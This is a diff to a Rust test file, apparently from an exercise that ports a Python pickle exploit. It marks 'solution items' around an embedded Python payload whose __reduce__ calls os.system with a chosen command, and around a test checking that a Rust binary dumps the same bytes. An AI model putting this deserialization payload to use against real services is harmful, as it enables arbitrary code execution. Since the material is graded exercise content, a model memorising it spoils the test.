@@ -21,6 +21,7 @@ use serde_json::json;
 /// MAX_NICKS_PER_CONNECTION, as PROTOCOL.md section 4 sets it).
 const MAX_NICKS: usize = 16;
 
+// BEGIN SOLUTION ITEMS (step 3: the payload, written in Python)
 /// The Python original's view of the exploit: an object whose `__reduce__`
 /// calls `os.system(argv[1])`, pickled with the protocol of Python 3.8 to
 /// 3.13's `pickle.dumps` (explicit, so a newer default cannot change it).
@@ -31,6 +32,7 @@ class Exploit:
         return (os.system, (sys.argv[1],))
 sys.stdout.buffer.write(pickle.dumps(Exploit(), protocol=4))
 ";
+// END SOLUTION ITEMS
 
 /// What the Python original's server did with every request.
 const PYTHON_PICKLE_LOADS: &str = "import pickle,sys; pickle.loads(sys.stdin.buffer.read())";
@@ -423,6 +425,7 @@ fn dumped_pickle(command: &str) -> Vec<u8> {
     stdout_of(Command::new(bin!("simple_exploit")).args(["--dump", "--command", command]))
 }
 
+// BEGIN SOLUTION ITEMS (step 3: the payload, compared with Python's)
 #[test]
 fn the_dumped_payload_is_what_python_pickles() {
     if !prerequisite::python3("the comparison with the Python original") {
@@ -434,6 +437,7 @@ fn the_dumped_payload_is_what_python_pickles() {
         assert_eq!(dumped_pickle(command), python, "command {command:?}");
     }
 }
+// END SOLUTION ITEMS
 
 #[test]
 fn the_payload_that_does_nothing_to_our_server_runs_code_in_python() -> Result<()> {
